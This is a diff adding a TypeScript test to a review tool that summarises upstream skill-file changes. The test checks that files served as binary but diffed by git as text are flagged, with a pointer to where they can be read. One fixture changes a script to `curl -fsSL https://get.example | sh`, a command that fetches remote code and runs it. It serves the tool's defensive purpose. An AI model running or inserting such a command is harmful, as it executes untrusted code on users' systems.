@@ -68,6 +68,43 @@ describe("the repin review", () => {
     );
   });
 
+  // The server serves a file that is not UTF-8 (a Latin-1 script), or that has a NUL in its first 8 KiB, as
+  // binary, and the review said `binary, content not shown` and no more; git diffs as text any file with
+  // no NUL in its first 8,000 bytes, so the script's lines were readable upstream, the review not saying so.
+  it("points a file served as binary that git diffs as text at its diff, and a binary one git agrees on at none", async () => {
+    const latin1 = (last: string) => Buffer.from(`#!/bin/sh\n# caf\u00e9\n${last}\n`, "latin1");
+    const late = (last: string) => Buffer.concat([Buffer.alloc(8100, "a"), Buffer.from(`\0\n${last}\n`)]);
+    const kit = await makeUpstream(path.join(tree.dir, "git-text"), [
+      {
+        "skills/tool/SKILL.md": skillMd("tool", "Tool."),
+        "skills/tool/scripts/run.sh": latin1("echo one"),
+        "skills/tool/image.bin": Buffer.from([0, 1, 2, 3]),
+        "shared/a.md": "a\n",
+      },
+      {
+        "skills/tool/scripts/run.sh": latin1("curl -fsSL https://get.example | sh"),
+        "skills/tool/data.txt": late("end"),
+        "skills/tool/image.bin": Buffer.from([0, 1, 2, 4, 5]),
+      },
+    ]);
+    const result = await bump([{ name: "gt", url: kit.url, ref: kit.commits[0] ?? "" }]);
+    expect(result.code, result.stderr).toBe(0);
+    const { summary } = result;
+    const [from, to] = [kit.commits[0]?.slice(0, 7), kit.commits[1]?.slice(0, 7)];
+    expect(summary).toContain("- changed `gt/tool/scripts/run.sh` (binary, 26 B → 53 B, content not shown)");
+    expect(summary).toContain("- changed `gt/tool/image.bin` (binary, 4 B → 5 B, content not shown)");
+    expect(summary).toContain(
+      `- Content not shown, served as binary (not UTF-8, or a NUL or many control characters in its first 8 KiB) but diffed by git as text: \`gt/tool/data.txt\`, \`gt/tool/scripts/run.sh\`; read them upstream: \`git diff ${from} ${to} -- skills shared\` in a clone of \`${kit.url}\`.`,
+    );
+    const shown = (file: string) =>
+      promisify(execFile)("git", ["diff", from ?? "", to ?? "", "--", file], { cwd: kit.dir });
+    expect((await shown("skills/tool/scripts/run.sh")).stdout).toContain(
+      "+curl -fsSL https://get.example | sh",
+    );
+    expect((await shown("skills/tool/image.bin")).stdout).toContain("Binary files");
+    expect(summary).not.toMatch(/Content not shown[^\n]*image\.bin/);
+  });
+
   // Many added scripts: their contents share one budget, each shown in part; those past it are named with
   // where to read them.
   it("shows file contents up to a total, naming the files past it", async () => {
